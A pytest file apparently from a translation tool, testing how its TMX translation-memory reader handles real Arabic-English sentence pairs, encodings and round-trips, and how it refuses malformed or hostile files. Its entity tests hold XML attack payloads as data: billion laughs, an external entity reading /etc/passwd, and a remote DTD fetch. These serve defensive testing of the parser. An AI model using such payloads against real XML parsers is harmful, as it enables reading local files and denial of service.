"""TMX reading and writing: what other tools write reads (1.4b, 1.4, 1.1, inline codes,
UTF-16, a declared 8-bit encoding); what desk writes reads back; a hostile or broken file
is refused with its name and line, bounded in what it costs."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desk.core.errors import InputError
from desk.core.tm import tmx
from desk.core.tm.match import Unit
from desk.core.tm.tmx import TmxReader, TmxUnit
from tests.helpers.paths import FIXTURES, SAMPLES

ROWS = [
    line.split("\t")
    for line in (SAMPLES / "corpus" / "news.tsv").read_text(encoding="utf-8").splitlines()[1:40]
]


def read(data: bytes | str, name: str = "m.tmx") -> tuple[list[TmxUnit], TmxReader]:
    """The units of a TMX document's bytes, and the reader (its counts)."""
    raw = data.encode() if isinstance(data, str) else data
    reader = TmxReader(name)
    return list(reader.read(io.BytesIO(raw))), reader


def document(body: str, header: str = 'srclang="ar"', version: str = "1.4") -> str:
    """A TMX document around `body` (its <tu> elements)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="{version}">\n'
        f'<header creationtool="t" creationtoolversion="1" datatype="plaintext" '
        f'segtype="sentence" adminlang="en" o-tmf="t" {header}/>\n<body>\n{body}</body>\n</tmx>\n'
    )


def tu(arabic: str, english: str, attrs: str = "", lang_attr: str = "xml:lang") -> str:
    """One <tu> on one line."""
    return (
        f'<tu {attrs}><tuv {lang_attr}="ar"><seg>{arabic}</seg></tuv>'
        f'<tuv {lang_attr}="en"><seg>{english}</seg></tuv></tu>\n'
    )


def test_units_of_the_corpus_with_authors_dates_and_properties() -> None:
    """Real sentence pairs: Arabic and English, author, dates in ISO 8601, properties."""
    body = "".join(
        tu(ar, en, f'creationid="rania" creationdate="20150517T0600{n:02d}Z"').replace(
            "<tuv", f'<prop type="x-desk-story">story-{n}</prop><note>n{n}</note><tuv', 1
        )
        for n, (ar, en) in enumerate(ROWS)
    )
    units, reader = read(document(body))
    assert [(u.source, u.target) for u in units] == [(ar, en) for ar, en in ROWS]
    assert reader.units == len(ROWS) and reader.incomplete == 0
    first = units[1]
    assert first.author == "rania"
    assert first.created_at == first.updated_at == "2015-05-17T06:00:01.000000+00:00"
    assert first.story == "story-1"
    assert first.props == {"x-desk-story": "story-1", "note": "n1"}


def test_tmx_1_1_and_regional_languages_and_all_sources() -> None:
    """TMX 1.1 `lang`, ar-SY and en-GB, `*all*` as the source, Arabic not first, a third
    language beside them, a unit without English counted apart; changeid and the
    header's creationid as the author; changedate kept apart from creationdate."""
    ar, en = ROWS[0]
    body = (
        tu(ar, en, 'changeid="omar" creationid="x" creationdate="20150101T000000Z" '
           'changedate="20150102T030405Z"', lang_attr="lang")
        + f'<tu><tuv lang="fr"><seg>Bonjour</seg></tuv><tuv lang="en-GB"><seg>{en}</seg></tuv>'
        f'<tuv lang="AR-SY"><seg>{ar}</seg></tuv></tu>\n'
        + f'<tu><tuv lang="ar"><seg>{ar}</seg></tuv><tuv lang="fr"><seg>x</seg></tuv></tu>\n'
    )  # fmt: skip
    units, reader = read(document(body, 'srclang="*all*" creationid="hq"', version="1.1"))
    assert [u.author for u in units] == ["omar", "hq"]
    assert units[0].created_at.startswith("2015-01-01T00:00:00")
    assert units[0].updated_at.startswith("2015-01-02T03:04:05")
    assert units[1].source == ar and units[1].target == en
    assert reader.incomplete == 1
    assert list(reader.languages) == ["ar", "en", "fr"]


def test_inline_codes_are_dropped_and_their_text_kept() -> None:
    """<bpt>/<ept>/<ph>/<it>/<ut> are codes (their content dropped), <hi> and a <sub>
    inside a code are text."""
    arabic = 'قصفت <bpt i="1">&lt;b&gt;</bpt>قوات<ept i="1">&lt;/b&gt;</ept> النظام<ph>{1}</ph>'
    english = (
        'The <hi type="b">regime</hi> forces<it pos="begin">&lt;i&gt;</it> '
        '<ph>&lt;a title="<sub>shelled</sub>"&gt;</ph><ut>{x}</ut>'
    )
    units, _ = read(document(tu(arabic, english)))
    assert units[0].source == "قصفت قوات النظام"
    assert units[0].target == "The regime forces shelled"


def test_other_encodings_read() -> None:
    """UTF-16 with its mark, and a declared 8-bit Arabic encoding (Windows-1256)."""
    ar, en = ROWS[2]
    text = document(tu(ar, en))
    units, _ = read(text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    assert (units[0].source, units[0].target) == (ar, en)
    cp = text.replace('encoding="UTF-8"', 'encoding="windows-1256"').encode("cp1256")
    units, _ = read(cp)
    assert (units[0].source, units[0].target) == (ar, en)


def _unit(n: int, source: str, target: str, **kw: object) -> Unit:
    """A unit as the store gives one."""
    fields: dict[str, object] = {
        "origin": "desk", "story": "lattakia-offensive", "segment": n, "author": "rania",
        "created_at": "2015-05-17T06:00:00.000000+00:00",
        "updated_at": "2015-05-17T08:30:00.000000+03:00", "published": n % 2 == 0,
    } | kw  # fmt: skip
    return Unit(n, source, target, **fields)  # type: ignore[arg-type]


def test_written_tmx_reads_back() -> None:
    """desk's TMX: the header, each unit's attributes and properties, dates in UTC, and
    text with markup characters, quotes and a CR read back as written."""
    units = [_unit(n, ar, en) for n, (ar, en) in enumerate(ROWS, start=1)]
    units.append(_unit(99, 'قال <المرصد> & "غيره"', "Said <b> & 'x'\r\nend", origin="tmx:a"))
    text = "".join(tmx.tmx_text(units, version="9.9", created="2015-05-17T06:00:00+00:00"))
    assert '<header creationtool="desk" creationtoolversion="9.9" datatype="plaintext" ' in text
    assert 'srclang="ar" o-tmf="desk" creationdate="20150517T060000Z"' in text
    back, reader = read(text)
    assert reader.units == len(units)
    for unit, got in zip(units, back, strict=True):
        assert (got.source, got.target.replace("\r\n", "\n")) == (
            unit.source.strip(), unit.target.strip().replace("\r\n", "\n"))  # fmt: skip
        assert got.author == "rania"
        assert got.created_at == "2015-05-17T06:00:00.000000+00:00"
        assert got.updated_at == "2015-05-17T05:30:00.000000+00:00"
        assert got.props == {
            "x-desk-origin": unit.origin, "x-desk-story": "lattakia-offensive",
            "x-desk-segment": str(unit.id),
            "x-desk-status": "published" if unit.published else "unpublished",
        }  # fmt: skip
    assert back[-1].target == "Said <b> & 'x'\r\nend"


def test_characters_xml_cannot_hold_are_dropped_when_writing() -> None:
    """A C0 control or a lone surrogate in a stored segment would make the file
    unreadable: it is left out, the rest kept."""
    units = [_unit(1, "قصف\x01 النظام", "Sh\x0belled\ud800 by\x1b the regime\ufffe")]
    text = "".join(tmx.tmx_text(units, version="1"))
    back, _ = read(text.encode("utf-8", "surrogatepass"))
    assert (back[0].source, back[0].target) == ("قصف النظام", "Shelled by the regime")


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40))
def test_any_english_text_survives_a_round_trip(english: str) -> None:
    """Whatever the English holds, desk's TMX gives it back (less what XML 1.0 cannot
    hold, and the ends' white space)."""
    kept = tmx._FORBIDDEN.sub("", english).strip()
    units = [_unit(1, ROWS[0][0], english)]
    text = "".join(tmx.tmx_text(units, version="1"))
    if not kept:
        with pytest.raises(InputError, match="no unit holds both"):
            read(text)
        return
    back, _ = read(text)
    assert back[0].target == kept


# -- refused ---------------------------------------------------------------------------


def refused(data: bytes | str, name: str = "bad.tmx") -> str:
    """The message a document is refused with."""
    with pytest.raises(InputError) as info:
        read(data, name)
    return str(info.value)


ENTITY_HEAD = '<?xml version="1.0"?>\n<!DOCTYPE tmx [\n{}\n]>\n'


@pytest.mark.parametrize(
    ("head", "needles"),
    [
        ('<!ENTITY lol "lol">\n<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
         ["bad.tmx:3:", "declares XML entities"]),
        ('<!ENTITY secret SYSTEM "file:///etc/passwd">', ["bad.tmx:3:", "declares XML entities"]),
        ('<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n%remote;',
         ["bad.tmx:3:", "declares XML entities"]),
    ],
)  # fmt: skip
def test_entities_are_refused(head: str, needles: list[str]) -> None:
    """Billion laughs, an external entity, a remote parameter entity: refused, with the
    line, before any is expanded or fetched."""
    data = ENTITY_HEAD.format(head) + document(tu("&lol1;", "x")).split("\n", 1)[1]
    message = refused(data)
    for needle in needles:
        assert needle in message


def test_an_entity_from_an_external_dtd_is_refused_where_used() -> None:
    """A DOCTYPE naming a DTD is fine (translate-toolkit writes one), but an entity only
    that DTD could define is refused rather than dropped."""
    ar, en = ROWS[0]
    head = '<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'
    units, _ = read(head + document(tu(ar, en)).split("\n", 1)[1])
    assert units[0].source == ar
    message = refused(head + document(tu(ar, "&nbsp;")).split("\n", 1)[1])
    assert "bad.tmx:" in message and "&nbsp;" in message


@pytest.mark.parametrize(
    ("limit", "value", "body", "needle"),
    [
        ("MAX_TMX_BYTES", 2000, tu(ROWS[0][0], ROWS[0][1]) * 20, "larger than 0 MiB"),
        ("MAX_UNITS", 5, tu(ROWS[0][0], ROWS[0][1]) * 6, "bad.tmx:10: more than 5 units"),
        ("MAX_ELEMENTS", 40, tu(ROWS[0][0], ROWS[0][1]) * 10, "more than 40 XML elements"),
        ("MAX_UNIT_ELEMENTS", 30, tu(ROWS[0][0], "x<ph/>" * 40), "bad.tmx:5: more than 30 elements"),
        ("MAX_TEXT_CHARS", 50, tu(ROWS[0][0], "word " * 20), "bad.tmx:5: a segment longer than 50"),
        ("MAX_TEXT_CHARS", 50, tu(ROWS[0][0], "x").replace("<tuv", "<prop type='t'>" + "p" * 60 + "</prop><tuv", 1),
         "a property longer than 50"),
    ],
    ids=["bytes", "units", "elements", "unit-elements", "segment", "property"],
)  # fmt: skip
def test_past_a_limit_is_refused(
    monkeypatch: pytest.MonkeyPatch, limit: str, value: int, body: str, needle: str
) -> None:
    """Each cap, lowered so a small file passes it: refused with the file and line."""
    monkeypatch.setattr(tmx, limit, value)
    assert needle in refused(document(body))


class Endless:
    """A stream of a TMX that never ends: its start, then `block` for ever."""

    def __init__(self, start: bytes, block: bytes) -> None:
        """The document's first bytes and what repeats after them."""
        self.start, self.block = start, block

    def read(self, size: int) -> bytes:
        """The start once, then the block."""
        if self.start:
            start, self.start = self.start, b""
            return start
        return self.block


def test_an_endless_comment_is_refused_at_once() -> None:
    """One comment that never closes: expat 2.5 scans it again with every chunk (half a
    GiB took five minutes); refused after MAX_SILENT_BYTES, with its line."""
    start = document("").split("<body>")[0].encode() + b"<!--"
    stream = Endless(start, (b"x" * 1023 + b"\n") * 1024)
    with pytest.raises(InputError, match=r"^endless\.tmx:4: more than 8 MiB without a complete"):
        list(TmxReader("endless.tmx").read(stream))


def test_deep_nesting_is_refused() -> None:
    """Thousands of nested elements inside a segment: refused at MAX_DEPTH."""
    body = tu(ROWS[0][0], "<hi>" * 5000 + "x" + "</hi>" * 5000)
    assert "bad.tmx:5: elements nested too deeply" in refused(document(body))


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        (document(tu("قصف", "x")).replace("</tu>", "</tuv>", 1), "bad.tmx:5: not well-formed XML (mismatched tag)"),
        (document(tu("قصف", "x"))[:-30], "bad.tmx:5: not well-formed XML (unclosed token)"),
        ("", "bad.tmx: empty file"),
        (document(tu("قصف", "x")).encode("utf-8").replace("قصف".encode(), "قصف".encode("cp1256")),
         "bad.tmx:5: not UTF-8 text (byte 0xDE)"),
        ("<martif><text/></martif>", "not a TMX file (the root element is <martif>"),
        (document(tu("قصف", "x"), header='srclang="en-US"'), "bad.tmx:3: the memory's source language is 'en-US'"),
        (document(tu("قصف", "x", 'srclang="fr"')), "bad.tmx:5: the memory's source language is 'fr'"),
        (document(tu("قصف", "x").replace('"ar"', '"de"').replace('"en"', '"fr"')),
         "no unit holds both an Arabic and an English segment (languages found: de, fr)"),
    ],
    ids=["mismatched", "truncated", "empty", "cp1256", "tbx", "english-source", "unit-source",
         "other-languages"],
)  # fmt: skip
def test_broken_or_foreign_files_are_refused_with_their_line(
    data: str | bytes, needle: str
) -> None:
    """Malformed, truncated, empty, not UTF-8, not TMX, not Arabic → English."""
    assert needle in refused(data)


def test_fixture_files_of_the_glossary_attacks_are_refused_too() -> None:
    """The glossary's hostile TBX files, given as TMX: refused the same way."""
    for name in ("billion-laughs.tbx", "external-entity.tbx", "parameter-entity.tbx"):
        data = (FIXTURES / "glossary" / name).read_bytes()
        assert "declares XML entities" in refused(data, name)


def test_a_unit_inside_a_unit_is_refused() -> None:
    """Whose English would the outer unit's Arabic get? Neither: the file is refused."""
    nested = '<tu><tuv xml:lang="ar"><seg>قصف أول</seg></tuv><tu>' + tu("قصف ثان", "second")
    with pytest.raises(InputError, match=r"m\.tmx:\d+: a <tu> inside the <tu> of line"):
        read(document(nested + "</tu>\n"))


def test_an_author_is_cut_to_its_cap() -> None:
    """A header's author goes to every unit: a long one cannot multiply the memory."""
    long = "x" * 100_000
    units, _ = read(document(tu(*ROWS[0]) + tu(*ROWS[1]), f'srclang="ar" changeid="{long}"'))
    assert [len(u.author) for u in units] == [tmx.MAX_AUTHOR_CHARS] * 2
